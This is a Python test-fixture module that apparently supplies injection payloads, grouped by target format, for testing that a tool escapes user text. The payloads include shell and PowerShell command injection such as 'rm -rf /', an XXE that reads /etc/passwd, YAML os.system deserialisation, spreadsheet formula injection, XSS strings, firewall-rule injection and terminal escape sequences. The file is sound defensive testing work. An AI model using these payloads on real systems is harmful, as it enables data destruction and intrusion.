"""Text that people should not type into a plan, and do."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

# The file that the commands in these texts leave behind.
_LEFT = "/tmp/pwned"
HOSTILE = (
    "",
    " ",
    "'; rm -rf / #",
    '"; accept; #',
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "${HOME}\\",
    "line one\nflush ruleset\nline three",
    "PORTWRIGHT_END\nPORTWRIGHT_END",
    "\r\nX: y\r\n",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\uff1d1+1",
    "</script><script>alert(1)</script>",
    "| a | b |\n|---|---|",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)> \\<b>",
    "https://portwright.example/x www.portwright.example ftp://portwright.example/",
    "a@portwright.example mailto:a@portwright.example xmpp:a@portwright.example",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b2J\x9d0;owned\x9c\x90q\x9c",
    "\u2019; Remove-Item C:\\ -Recurse #\u2018 \u201c$(calc)\u201d \u201a\u201b\u201e",
    "\u202etxt.exe\u202c \u2066\u2069\u200b\ufeff",
    "\u2028\u2029\x85",
    "\x00nul",
    "na\u00efve \u00dcbung \u6f22\u5b57 \U0001f5a8",
    "\ud83d",
    "#@payload",
    "a" * 10_000,
    "\u6f22" * 10_000,
    "%s%n{}{{x}}",
    "} } table inet evil { chain x { type filter hook input priority 0; policy accept; } }",
)

# What one reader in particular would obey, beside all that: by the reader.
AGAINST = {
    "shell": (
        "'\"'\"'$(touch /tmp/pwned)",
        "\\'; touch /tmp/pwned; '\\",
        "\\\n; touch /tmp/pwned",
        "$'\\x24(touch /tmp/pwned)'",
        "${IFS}touch${IFS}/tmp/pwned",
        "!touch\\ /tmp/pwned",
        "x & touch /tmp/pwned",
        "<(touch /tmp/pwned) >/tmp/pwned",
        "~root/* [a-z]? {a,b}",
        "EOF\ntouch /tmp/pwned\n",
        "-e --help -n",
    ),
    "nft": (
        '" accept comment "',
        '\\" ; flush ruleset ; \\',
        '# " drop',
        'include "/etc/passwd"',
        "define x = { 0.0.0.0/0 } $x @set",
        "} ; }\n}",
    ),
    "powershell": (
        "\u2018; Remove-Item C:\\ #",
        "\u201a; calc #\u201b; calc #",
        "\u201c$(calc)\u201d \u201e$(calc)",
        "`n`$(calc) `",
        "\u2013Recurse \u2014Force \u2015x --%",
        "'@\nRemove-Item C:\\\n@'",
        '"@\ncalc\n@"',
        "& { calc } | iex; [Console]::Beep()",
        "'\u00a0;calc",
    ),
    "cloudformation": (
        "{{resolve:ssm-secure:/x:1}}",
        "${AWS::AccountId} ${!x}",
        '{"Fn::Sub": "${x}"} !Ref x',
        '"}], "SecurityGroupIngress": [{"CidrIp": "0.0.0.0/0"}',
    ),
    "arm": (
        "[concat('a', 'b')]",
        "[parameters('name')]",
        "[[x]",
        "[ listKeys('x', '1') ]",
        '%{ for x in y }${file("/etc/passwd")}%{ endfor }',
        "$${x} %%{x}",
        "<<EOT\nx\nEOT",
        '\\"${path.module}',
        "*/ locals { x = 1 } /*",
    ),
    "squid": (
        "x\nhttp_access allow all",
        "x\\\nhttp_access allow all",
        "\rhttp_access allow all",
        '"/etc/passwd"',
        "include /etc/squid/other.conf",
        "acl all_of_them src all",
        "${service_name} !all -n",
        "\u0085http_access allow all",
    ),
    "javascript": (
        "*/ alert(1) /*",
        "\\u0022; alert(1); //",
        "'; while(1); '",
        "${alert(1)}`",
        "\\",
        "<!-- alert(1)",
        "\u2029alert(1)",
    ),
    "csv": (
        '=HYPERLINK("http://portwright.example/?"&A1)',
        '=WEBSERVICE("http://portwright.example")',
        " =1+1",
        "\u00a0=1+1",
        "\uff0b1+1",
        "\uff20SUM(A1)",
        "\u22121+1",
        'x","=1+1',
        "x\n=1+1",
        "x\r=1+1",
        ";=1+1",
        "_x003D_1+1",
    ),
    "html": (
        '" onmouseover="alert(1)',
        "' autofocus onfocus='alert(1)",
        "--><script>alert(1)</script><!--",
        "</style><style>*{display:none}",
        "</title><svg onload=alert(1)>",
        "&#60;img src=x&#62; &lt;img src=x&gt;",
        "<base href=http://portwright.example/>",
        "javascript:alert(1) data:text/html,x",
    ),
    "markdown": (
        "![x](http://portwright.example/x.png)",
        "<http://portwright.example/>",
        "[x]: http://portwright.example/ 'x'\n[x]",
        "[x][y] [^1]\n\n[^1]: x",
        "```\n</details>\n~~~",
        "# x\n===\n---\n***",
        "1. x\n- [ ] x\n> x",
        "\\[x](http://portwright.example/) \\\\<img src=x>",
        "&lt;img src=x&gt; &#x5b;x](y)",
        "$x$ $$y$$ :::x {.y} ==z== ~~w~~ @team",
        "<!-- x -->\n<details>",
        "    x\n\tx",
    ),
    "mermaid": (
        '"]; click a call x() "y"',
        "end\nsubgraph x",
        "%%{init: {'securityLevel': 'loose'}}%%",
        "#quot;#34;&quot;",
        "a-->b; a---b|x|c",
        "`**x**`",
        "[[(x)]] {{y}} >z]",
        "classDef default fill:red",
    ),
    "xml": (
        "]]><script>alert(1)</script><![CDATA[",
        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
        "<?xml-stylesheet href='x'?>",
        "--><port port='1-65535' protocol='tcp'/><!--",
        '"/><rule family="ipv4"><accept/></rule><x y="',
        "&amp;lt; &#0; &#x1b; \ufffe",
    ),
    "jinja": (
        "{{ lookup('pipe', 'touch /tmp/pwned') }}",
        "{% for x in y %}{{ x }}{% endfor %}",
        "{# x #} {{ '{{' }}",
        "{% raw %}{% endraw %}{{ 7 * 7 }}",
        "#jinja2: variable_start_string:'[['",
        "!unsafe x",
        "!vault |\n  $ANSIBLE_VAULT;1.1;AES256",
    ),
    "yaml": (
        "!!python/object/apply:os.system [id]",
        "x: y\n- z",
        "&a *a <<: *a",
        "--- \n...\n---",
        "| \n>- ",
        "%TAG ! tag:x,2000:",
        "no: 0x1F 1_000 ~",
    ),
    "terminal": (
        "\x9b31m\x9b?1049h",
        "\x90+q544e\x9c \x98x\x9c \x9ex\x9c \x9fx\x9c",
        "\x1b]52;c;eA==\x07",
        "\x1b]8;;http://portwright.example/\x1b\\x\x1b]8;;\x1b\\",
        "x\x08\x08y\rz\x0e\x0f",
        "\u061c\u200e\u200f\u2067x\u2069 \u202bx\u202c \u206a",
        "[bold]x[/bold] [@click=app.quit]x[/] \\[x]",
        "[link=http://portwright.example/]x[/link]",
        "\U000e0041\U000e007f \ufff9x\ufffby",
    ),
}


def hostile_to(*readers: str) -> tuple[str, ...]:
    """What nobody should type, and what these readers in particular would obey."""
    more: list[str] = []
    for reader in readers:
        more += AGAINST[reader]
    return (*HOSTILE, *more)


def with_canary(texts: Iterable[str], canary: Path) -> tuple[str, ...]:
    """The same texts, whose commands would leave this file."""
    return tuple(text.replace(_LEFT, str(canary)) for text in texts)
